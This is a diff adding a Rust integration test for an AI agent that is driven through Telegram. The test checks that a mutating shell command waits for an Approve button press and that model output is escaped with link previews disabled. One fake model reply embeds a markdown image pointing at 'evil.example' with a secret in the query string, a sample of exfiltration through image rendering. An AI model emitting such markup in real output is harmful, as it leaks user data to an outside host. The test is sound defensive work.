@@ -274,3 +274,96 @@ async fn approval_buttons_in_chat_decide_like_the_api() {
         "every press is answered"
     );
 }
+
+/// The agent in Telegram through the real binary (done-means of the agent issue): free text is a
+/// request to the agent; the status message shows the plan and the commands; the mutating step
+/// arrives as an approval request with buttons; a press lets it run; the answer arrives escaped,
+/// with link previews off, so model output cannot render markup, links or remote images.
+#[tokio::test]
+async fn free_text_reaches_the_agent_which_asks_before_changing_anything() {
+    use agent::llm::WireFormat;
+    use agent::llm::testing::{FakeLlm, Reply};
+
+    let llm = FakeLlm::start(WireFormat::OpenAi, Some(crate::support::FAKE_LLM_KEY)).await;
+    llm.push(Reply::ToolCalls {
+        text: Some("First I look at the disk.".into()),
+        calls: vec![("c1".into(), "shell".into(), json!({"command": "df -h /"}))],
+    });
+    llm.push(Reply::tool_call(
+        "c2",
+        "shell",
+        json!({"command": "echo ok > /workspace/report.txt"}),
+    ));
+    llm.push(Reply::text(
+        "Done. <b>Disk</b> is fine ![x](https://evil.example/p.png?d=secret)",
+    ));
+    let fake = FakeBotApi::start(TOKEN).await;
+    let server = Server::start_with(telegram_deployment(&fake).with_llm(&llm)).await;
+    let org = server.org_init();
+    fake.push_update(text_update(
+        1,
+        ADMIN_TG,
+        &format!("/start {}", org.admin_link_code),
+    ));
+    delivered_containing(&fake, "Linked").await;
+
+    fake.push_update(text_update(
+        2,
+        ADMIN_TG,
+        "check the disk and write a report",
+    ));
+    let accepted = delivered_containing(&fake, "tsk_").await;
+    let request = delivered_containing(&fake, "apr_").await;
+    assert!(
+        request.contains("echo ok &gt; /workspace/report.txt")
+            || request.contains("echo ok > /workspace/report.txt"),
+        "{request}"
+    );
+    // The status message was edited to show the plan and the read-only command.
+    let edits: Vec<String> = fake
+        .calls_to("editMessageText")
+        .iter()
+        .filter_map(|b| b["text"].as_str().map(str::to_owned))
+        .collect();
+    assert!(
+        edits.iter().any(|t| t.contains("df -h /")),
+        "progress shows the command: {edits:#?} (accepted: {accepted})"
+    );
+
+    let delivered = fake.delivered();
+    let (index, call) = delivered
+        .iter()
+        .enumerate()
+        .find(|(_, c)| c.body["text"].as_str().is_some_and(|t| t.contains("apr_")))
+        .expect("the approval request");
+    let approve = call.body["reply_markup"]["inline_keyboard"][0]
+        .as_array()
+        .and_then(|b| {
+            b.iter()
+                .find(|b| b["text"].as_str().is_some_and(|t| t.contains("Approve")))
+        })
+        .and_then(|b| b["callback_data"].as_str())
+        .expect("an Approve button")
+        .to_owned();
+    fake.push_update(telegram::testing::callback_update(
+        3,
+        ADMIN_TG,
+        &approve,
+        1001 + index as i64,
+    ));
+    let answer = delivered_containing(&fake, "Disk").await;
+    assert!(answer.contains("&lt;b&gt;Disk&lt;/b&gt;"), "{answer}");
+    assert!(!answer.contains("<a "), "{answer}");
+    let answer_call = fake
+        .calls_to("sendMessage")
+        .into_iter()
+        .find(|b| b["text"].as_str().is_some_and(|t| t.contains("Disk")))
+        .expect("the answer was sent");
+    let previews_off = answer_call["link_preview_options"]["is_disabled"] == true
+        || answer_call["disable_web_page_preview"] == true;
+    assert!(previews_off, "{answer_call}");
+    let tasks = server.get("/v1/tasks", Some(&org.admin_token)).await;
+    let task = tasks.expect(200)["tasks"][0].clone();
+    assert_eq!(task["status"], "SUCCEEDED", "{task}");
+    assert_eq!(task["kind"], "agent");
+}
